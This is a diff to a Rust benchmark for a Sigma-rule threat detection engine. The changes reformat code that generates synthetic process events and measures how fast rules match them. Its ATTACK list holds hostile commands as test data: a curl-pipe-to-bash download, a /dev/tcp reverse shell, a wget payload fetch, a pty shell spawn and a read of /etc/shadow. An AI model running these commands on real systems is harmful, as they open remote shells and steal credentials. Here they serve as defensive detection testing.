@@ -48,11 +48,20 @@ const BENIGN: &[(&str, &str)] = &[
     ("/usr/bin/awk", "awk {print $1} /var/log/nginx/access.log"),
     ("/usr/bin/docker", "docker ps --format {{.Names}}"),
     ("/usr/bin/make", "make -j2 all"),
-    ("/usr/bin/gcc", "gcc -O2 -c src/file_{n}.c -o build/file_{n}.o"),
-    ("/usr/bin/ssh", "ssh -o BatchMode=yes deploy@10.1.2.{n} uptime"),
+    (
+        "/usr/bin/gcc",
+        "gcc -O2 -c src/file_{n}.c -o build/file_{n}.o",
+    ),
+    (
+        "/usr/bin/ssh",
+        "ssh -o BatchMode=yes deploy@10.1.2.{n} uptime",
+    ),
     ("/usr/bin/rsync", "rsync -a /srv/www/ mirror:/srv/www/"),
     ("/usr/bin/du", "du -sh /home/user{n}"),
-    ("/usr/bin/journalctl", "journalctl -u nginx --since -{n}min --no-pager"),
+    (
+        "/usr/bin/journalctl",
+        "journalctl -u nginx --since -{n}min --no-pager",
+    ),
     ("/usr/bin/node", "node /srv/api/server.js --port 30{n}"),
     ("/usr/bin/java", "java -Xmx512m -jar /opt/app/app.jar"),
     ("/usr/bin/sort", "sort -u /tmp/sessions_{n}.txt"),
@@ -62,10 +71,19 @@ const BENIGN: &[(&str, &str)] = &[
 
 const ATTACK: &[(&str, &str)] = &[
     ("/usr/bin/base64", "base64 -d /tmp/.x{n}"),
-    ("/usr/bin/bash", "bash -c curl -s http://203.0.113.{n}/i.sh | bash"),
-    ("/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.{n}/4444 0>&1"),
+    (
+        "/usr/bin/bash",
+        "bash -c curl -s http://203.0.113.{n}/i.sh | bash",
+    ),
+    (
+        "/usr/bin/bash",
+        "bash -i >& /dev/tcp/203.0.113.{n}/4444 0>&1",
+    ),
     ("/usr/bin/chmod", "chmod +x /tmp/.cache{n}"),
-    ("/usr/bin/python3.11", "python3 -c import pty;pty.spawn('/bin/bash')"),
+    (
+        "/usr/bin/python3.11",
+        "python3 -c import pty;pty.spawn('/bin/bash')",
+    ),
     ("/usr/bin/cat", "cat /etc/shadow"),
     ("/usr/bin/find", "find / -perm -4000 -type f"),
     ("/usr/bin/wget", "wget -q http://203.0.113.{n}/x -O /tmp/x"),
@@ -114,7 +132,12 @@ fn median(mut v: Vec<f64>) -> f64 {
 
 fn detector(dirs: Vec<PathBuf>, map: Option<PathBuf>) -> Detector {
     // The production default: 1 alert/rule/s, burst 5, on event time (as replay runs it).
-    let cfg = DetectConfig { rule_dirs: dirs, logsource_map: map, event_time_throttle: true, ..Default::default() };
+    let cfg = DetectConfig {
+        rule_dirs: dirs,
+        logsource_map: map,
+        event_time_throttle: true,
+        ..Default::default()
+    };
     Detector::load(&cfg, Arc::new(DetectStats::default())).expect("rules load")
 }
 
@@ -133,27 +156,44 @@ fn detect_pass(d: &mut Detector, events: &[Event]) -> (f64, usize) {
 
 fn arg(name: &str) -> Option<String> {
     let a: Vec<String> = std::env::args().collect();
-    a.iter().position(|x| x == name).and_then(|i| a.get(i + 1).cloned())
+    a.iter()
+        .position(|x| x == name)
+        .and_then(|i| a.get(i + 1).cloned())
 }
 
 fn main() {
     let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("..");
-    let n: usize = arg("--events").and_then(|s| s.parse().ok()).unwrap_or(200_000);
+    let n: usize = arg("--events")
+        .and_then(|s| s.parse().ok())
+        .unwrap_or(200_000);
     let rounds: usize = arg("--rounds").and_then(|s| s.parse().ok()).unwrap_or(3);
-    let sigmahq = arg("--sigmahq").map(PathBuf::from).unwrap_or(root.join("../shared/sigmahq"));
-    let scale = arg("--scale").map(PathBuf::from).unwrap_or(root.join("../shared/sigmahq-scale"));
-    let sr_events: usize = arg("--sigma-rust-events").and_then(|s| s.parse().ok()).unwrap_or(20_000);
+    let sigmahq = arg("--sigmahq")
+        .map(PathBuf::from)
+        .unwrap_or(root.join("../shared/sigmahq"));
+    let scale = arg("--scale")
+        .map(PathBuf::from)
+        .unwrap_or(root.join("../shared/sigmahq-scale"));
+    let sr_events: usize = arg("--sigma-rust-events")
+        .and_then(|s| s.parse().ok())
+        .unwrap_or(20_000);
 
     let lines = generate(n, 0x5eed_a0a0);
     let bytes: usize = lines.iter().map(|l| l.len() + 1).sum();
-    let events: Vec<Event> = lines.iter().filter_map(|l| parse_line(l).ok().flatten()).collect();
+    let events: Vec<Event> = lines
+        .iter()
+        .filter_map(|l| parse_line(l).ok().flatten())
+        .collect();
     assert_eq!(events.len(), n);
 
     let tmp = tempfile::tempdir().unwrap();
     let map = tmp.path().join("scale-logsources.yml");
     // Scale rules are Windows process_creation rules: route them onto our events by category
     // alone, only to measure how cost grows with the rule count.
-    std::fs::write(&map, "logsources:\n  - { category: process_creation, kind: process_creation }\n").unwrap();
+    std::fs::write(
+        &map,
+        "logsources:\n  - { category: process_creation, kind: process_creation }\n",
+    )
+    .unwrap();
     let mut base = detector(vec![sigmahq.clone()], None);
     let mut scaled = detector(vec![sigmahq.clone(), scale.clone()], Some(map));
     let (base_rules, scaled_rules) = (base.rule_count(), scaled.rule_count());
@@ -204,13 +244,22 @@ fn main() {
     }
     // Our matches on the same prefix, for a like-for-like count.
     let mut unthrottled = Detector::load(
-        &DetectConfig { rule_dirs: vec![sigmahq.clone()], throttle_rate: 0.0, ..Default::default() },
+        &DetectConfig {
+            rule_dirs: vec![sigmahq.clone()],
+            throttle_rate: 0.0,
+            ..Default::default()
+        },
         Arc::new(DetectStats::default()),
     )
     .expect("rules load");
     let (_, our_prefix_alerts) = detect_pass(&mut unthrottled, &events[..sr_events_v.len()]);
 
-    let (p, b, s, r) = (median(parse_eps), median(base_eps), median(scaled_eps), median(sr_eps));
+    let (p, b, s, r) = (
+        median(parse_eps),
+        median(base_eps),
+        median(scaled_eps),
+        median(sr_eps),
+    );
     let result = serde_json::json!({
         "events": n,
         "jsonl_bytes": bytes,
